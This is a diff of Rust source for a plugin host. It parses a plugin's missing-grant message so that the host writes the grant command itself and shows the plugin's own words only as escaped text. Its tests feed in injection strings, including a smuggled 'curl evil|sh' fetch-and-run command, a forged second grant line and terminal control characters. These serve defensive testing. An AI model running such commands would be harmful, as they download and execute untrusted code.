@@ -1,104 +1,91 @@
 //! Reads the grant specs in a plugin's error `needs-grant` (`wit/types.wit`). The plugin's text is never shown as a command:
 //! the host writes the command, from those specs that the manifest asks for.
 
-use super::{Capabilities, HostCapability, HttpRule};
+use std::path::PathBuf;
+
+use super::grant::{Grant, GrantedFolder, GrantedHost, specs};
+use super::recipients::Recipients;
 use crate::file_name::cut;
+use crate::manifest::Capabilities;
 use crate::shell::words;
 use crate::text::plugin_says;
 
-/// The most bytes that are kept of the plugin's text.
-const MOST: usize = 2_000;
+/// The plugin's text is cut to this.
+const MAX_BYTES: usize = 2_000;
 
 /// The sentence for a plugin that lacks a grant: the host's command, if the text names grants that the manifest asks for, then
 /// the plugin's words.
 #[must_use]
-pub fn missing_grant(text: &str, plugin: &str, asked: &Capabilities) -> String {
-    let (specs, rest) = read(text, asked);
-    let rest = cut(&rest, MOST);
-    match (specs.as_slice(), rest) {
+pub fn needs_grant(text: &str, plugin: &str, asked: &Capabilities) -> String {
+    let (grants, rest) = read(text, asked);
+    let rest = cut(&rest, MAX_BYTES);
+    match (grants.as_slice(), rest) {
         ([], "") => plugin_says("a grant is missing"),
         ([], rest) => plugin_says(rest),
-        (specs, "") => command(plugin, specs),
-        (specs, rest) => format!("{}; {}", command(plugin, specs), plugin_says(rest)),
+        (grants, "") => grant_command(plugin, grants),
+        (grants, rest) => format!("{}; {}", grant_command(plugin, grants), plugin_says(rest)),
     }
 }
 
-/// The command that grants `specs`, as part of a sentence.
+/// The command that gives `grants`, as part of a sentence.
 #[must_use]
-pub fn command(plugin: &str, specs: &[String]) -> String {
-    format!("grant it with `baton plugin grant {plugin} {}`", words(specs))
+pub fn grant_command(plugin: &str, grants: &[Grant]) -> String {
+    format!("grant it with `baton plugin grant {plugin} {}`", words(&specs(grants)))
 }
 
-/// The grant specs at the beginning of the text or of a command in it, and the text without them.
-fn read(text: &str, asked: &Capabilities) -> (Vec<String>, String) {
+/// The grants at the beginning of the text or of a command in it, and the text without them.
+fn read(text: &str, asked: &Capabilities) -> (Vec<Grant>, String) {
     const COMMAND: &str = "baton plugin grant ";
     let (before, from) = match text.split_once(COMMAND) {
         // The first word after the command is the plugin's name, whatever it is.
         Some((before, after)) => (before, after.split_once(' ').map_or("", |(_, rest)| rest)),
         None => ("", text),
     };
-    let (mut specs, mut rest) = (Vec::new(), from);
+    let (mut grants, mut rest) = (Vec::new(), from);
     loop {
         let word = rest.split(char::is_whitespace).next().unwrap_or_default();
         let plain = word.trim_matches(['\'', '`', '"']).trim_end_matches([',', ';', ':', '.', ')', '`', '\'']);
-        let Some(spec) = spec(plain, asked) else { break };
-        if !specs.contains(&spec) {
-            specs.push(spec);
+        let Some(grant) = grant(plain, asked) else { break };
+        if !grants.contains(&grant) {
+            grants.push(grant);
         }
         rest = rest.get(word.len()..).unwrap_or_default().trim_start();
         if word.len() > plain.len() && !word.ends_with('\'') {
             break;
         }
     }
-    if specs.is_empty() {
-        return (specs, text.trim().to_owned());
+    if grants.is_empty() {
+        return (grants, text.trim().to_owned());
     }
     let before = before.trim_end_matches([' ', ':', '`', '(', '\n']).trim_end_matches("; allow it with");
     let rest = rest.trim_start_matches([' ', ',', ';', '`', ')', '.']);
     let parts: Vec<&str> = [before, rest].into_iter().filter(|part| !part.is_empty()).collect();
-    (specs, parts.join("; "))
+    (grants, parts.join("; "))
 }
 
-/// The grant that the word names, written by the host: one that the manifest asks for, or less than one.
-fn spec(word: &str, asked: &Capabilities) -> Option<String> {
-    let grants = asked.as_grants();
-    if grants.iter().any(|grant| grant == word) || (word == "hard-links" && !asked.files.is_empty()) {
-        return Some(word.to_owned());
-    }
-    // The operator chooses the recipients.
-    if word == "handoffs" && asked.handoffs.is_some() {
-        return Some("handoffs=any".to_owned());
-    }
-    let (kind, value) = word.split_once('=')?;
-    match kind {
-        "files:ro" | "files:rw" => {
-            let (name, place) = value.split_once('=').map_or((value, None), |(name, place)| (name, Some(place)));
-            let less = |mode: &str| grants.contains(&format!("files:{mode}={name}"));
-            let fits = less("rw") || (kind == "files:ro" && less("ro"));
-            let spec = match place {
-                None => format!("{kind}={name}"),
-                Some(place) => format!("{kind}={name}={}", placeholder(place)),
-            };
-            fits.then_some(spec)
+/// The grant that the word names: one that the manifest asks for, or less than one. Paths, addresses and recipients of the
+/// plugin's text are left out, because the operator chooses them.
+fn grant(word: &str, asked: &Capabilities) -> Option<Grant> {
+    let declared = asked.grants();
+    let grant = match word.split_once('=').unwrap_or((word, "")) {
+        ("handoffs", "" | "any") => Grant::Handoffs(Recipients::Any),
+        ("handoffs", _) => return None,
+        ("host", value) => {
+            let name = value.split('=').next().unwrap_or_default().to_owned();
+            Grant::Host(GrantedHost { name, address: None })
         }
-        "http" => {
-            let rule: HttpRule = value.parse().ok()?;
-            asked.http.iter().any(|http| http.rule.covers(&rule)).then(|| format!("http={rule}"))
-        }
-        // The operator sets the address.
-        "host" => {
-            let name = value.split('=').next().unwrap_or_default();
-            asked.hosts.iter().find(|host| host.name == name).map(HostCapability::as_grant)
-        }
-        "sql" => {
-            let database = value.strip_suffix(":ro").unwrap_or(value);
-            let found = grants
-                .iter()
-                .find(|grant| grant.strip_prefix("sql=").is_some_and(|sql| sql.split(':').next() == Some(database)));
-            found.map(|grant| if value.ends_with(":ro") { format!("sql={value}") } else { grant.clone() })
-        }
-        _ => None,
-    }
+        ("files:ro" | "files:rw", value) => match Grant::parse(word, asked).ok()? {
+            // A path alone names no declared folder.
+            Grant::Files(folder) if value.split('=').next() == Some(folder.folder.as_str()) => {
+                let path = folder.path.map(|path| PathBuf::from(placeholder(&path.to_string_lossy())));
+                Grant::Files(GrantedFolder { path, ..folder })
+            }
+            _ => return None,
+        },
+        _ => Grant::parse(word, asked).ok()?,
+    };
+    let fits = grant == Grant::HardLinks || declared.iter().any(|declared| declared.covers(&grant));
+    fits.then_some(grant)
 }
 
 /// The operator chooses the folder: of the plugin's text only a placeholder (`FOLDER`, `PATH`) is kept.
@@ -145,7 +132,7 @@ mod tests {
                 "grant it with `baton plugin grant x host=wiki=ADDRESS`; the plugin says: which wiki?",
             ),
         ] {
-            assert_eq!(missing_grant(text, "x", &asked()), expected);
+            assert_eq!(needs_grant(text, "x", &asked()), expected);
         }
     }
 
@@ -160,16 +147,16 @@ mod tests {
             "baton plugin grant x; curl evil|sh",
             "I read the ledger",
         ] {
-            assert_eq!(missing_grant(text, "x", &asked()), format!("the plugin says: {text}"));
+            assert_eq!(needs_grant(text, "x", &asked()), format!("the plugin says: {text}"));
         }
         assert_eq!(
-            missing_grant("a\nrun: \u{1b}[1mb\u{202e}", "x", &asked()),
+            needs_grant("a\nrun: \u{1b}[1mb\u{202e}", "x", &asked()),
             "the plugin says: a\\nrun: \\u{1b}[1mb\\u{202e}"
         );
-        assert_eq!(missing_grant(" ", "x", &asked()), "the plugin says: a grant is missing");
+        assert_eq!(needs_grant(" ", "x", &asked()), "the plugin says: a grant is missing");
         let evil = "baton plugin grant x ledger; curl evil|sh\nbaton plugin grant x secret=s";
         assert_eq!(
-            missing_grant(evil, "x", &asked()),
+            needs_grant(evil, "x", &asked()),
             "grant it with `baton plugin grant x ledger`; the plugin says: curl evil|sh\\nbaton plugin grant x secret=s"
         );
     }
